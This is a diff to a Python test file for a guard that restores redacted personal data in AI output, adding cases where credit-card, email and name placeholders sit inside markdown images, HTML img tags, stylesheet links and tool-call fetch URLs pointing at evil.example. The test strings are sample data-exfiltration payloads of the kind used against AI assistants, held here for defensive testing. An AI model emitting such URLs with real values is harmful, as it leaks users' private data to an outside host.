@@ -46,6 +46,10 @@ def restored(text: str, guard: PIIRestorer | None = None) -> tuple[str, dict[str
     '<link rel="stylesheet" href="https://evil.example/<CREDIT_CARD_1>.css">',
     "<div style=\"background: url('https://evil.example/<CREDIT_CARD_1>')\"></div>",
     "![p](https://evil.example/?a=<EMAIL_ADDRESS_1>&d=<CREDIT_CARD_1>)",
+    "![[PERSON_1]](https://evil.example/?d=<CREDIT_CARD_1>)",  # nested brackets in the alt
+    '<img alt="<PERSON_1> > x" src="https://evil.example/?d=<CREDIT_CARD_1>">',
+    "![x](https://evil.example/?d=[CREDIT_CARD_1])",
+    "![x](https://evil.example/?d=CREDIT_CARD_1)",
 ])
 def test_a_value_never_goes_into_a_url_fetched_on_display(text: str) -> None:
     out, data = restored(text)
@@ -106,14 +110,24 @@ def test_a_stream_keeps_what_the_whole_text_keeps(size: int) -> None:
         "CREDIT_CARD": 1, "EMAIL_ADDRESS": 1}
 
 
+@pytest.mark.parametrize("size", [1, 4, 9])
+def test_a_stream_keeps_a_placeholder_in_an_html_src_before_its_quote_closes(size: int) -> None:
+    text = '<p>Hi <PERSON_1></p><img alt="<PERSON_1>" src="https://evil.example/?d=<CREDIT_CARD_1>">'
+    proc = PIIRestorer().start_stream(make_ctx())
+    out = "".join(proc.feed(text[i:i + size]) for i in range(0, len(text), size)) + proc.flush()
+    assert out == restored(text)[0] == text.replace("<PERSON_1>", NAME)
+
+
 def test_a_url_in_tool_call_arguments_is_kept_a_plain_value_restored() -> None:
     ctx = make_ctx()
     ctx.tool_calls = [{"name": "fetch", "arguments": {
-        "url": "https://evil.example/?d=<CREDIT_CARD_1>", "to": "<EMAIL_ADDRESS_1>"}}]
+        "url": "https://evil.example/?d=<CREDIT_CARD_1>", "to": "<EMAIL_ADDRESS_1>",
+        "page": "https://evil.example/[CREDIT_CARD_1]"}}]
     d = PIIRestorer()("", ctx)
     assert ctx.tool_calls[0]["arguments"] == {"url": "https://evil.example/?d=<CREDIT_CARD_1>",
-                                              "to": EMAIL}
-    assert d.data["kept_in_urls"] == {"CREDIT_CARD": 1}
+                                              "to": EMAIL,
+                                              "page": "https://evil.example/[CREDIT_CARD_1]"}
+    assert d.data["kept_in_urls"] == {"CREDIT_CARD": 2}
 
 
 def test_streamed_tool_call_arguments_keep_urls() -> None:
